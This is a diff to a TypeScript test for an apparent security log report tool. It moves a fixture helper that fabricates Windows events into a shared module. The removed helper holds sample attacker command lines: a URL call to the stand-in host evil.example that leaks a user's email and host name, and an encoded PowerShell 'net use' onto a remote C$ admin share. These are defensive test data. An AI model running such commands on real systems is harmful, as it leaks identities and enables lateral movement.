@@ -7,6 +7,7 @@ import type { InputOf } from '../../../core/contract/types.ts'
 import { createEngine } from '../../../core/engine.ts'
 import { sections } from '../../../core/report/registry.ts'
 import { templates } from '../../../core/report/templates/registry.ts'
+import { canaryLines } from '../../support/canary-lines.ts'
 import { Workbench, windowsLines } from '../../support/workbench.ts'
 import { textOf } from './to-outline.ts'
 
@@ -18,33 +19,12 @@ beforeEach(async () => {
 })
 afterEach(() => bench.close())
 
-/** A log in which one person, one machine and one address stand in every place that a log has. */
-function canaryLines(): string {
-  return windowsLines(EVENTS, 'WS-CANARY7.corp.example')
-    .split('\n')
-    .map((line, index) => {
-      const event = JSON.parse(line) as Record<string, unknown>
-      return JSON.stringify({
-        ...event,
-        User: 'CORP\\zq.canary',
-        Image: 'C:\\Users\\zq.canary\\AppData\\Local\\Temp\\tool.exe',
-        CommandLine: [
-          'tool.exe /u ZQ.Canary@corp.example /h \\\\ws-canary7 /t 10.66.77.88',
-          'cmd /c start https://evil.example/?e=zq%2ecanary%40corp.example&h=WS-CANARY7',
-          `powershell -enc ${Buffer.from('net use \\\\WS-CANARY7\\c$ /user:zq.canary', 'utf16le').toString('base64')}`,
-        ][index % 3],
-        SourceIp: '10.66.77.88',
-      })
-    })
-    .join('\n')
-}
-
 const preview = async (input: InputOf<'report.preview'>) =>
   (await bench.client.call('report.preview', { generatedAt, ...input })).html
 
 describe('a report of a real case', () => {
   beforeEach(async () => {
-    await bench.import(bench.file('zq.canary-ws-canary7.jsonl', canaryLines()))
+    await bench.import(bench.file('zq.canary-ws-canary7.jsonl', canaryLines(EVENTS)))
     await bench.client.run('correlation.run', {})
   })
   const all = { options: { timeline: { rows: 'all', max: 1000 } } }
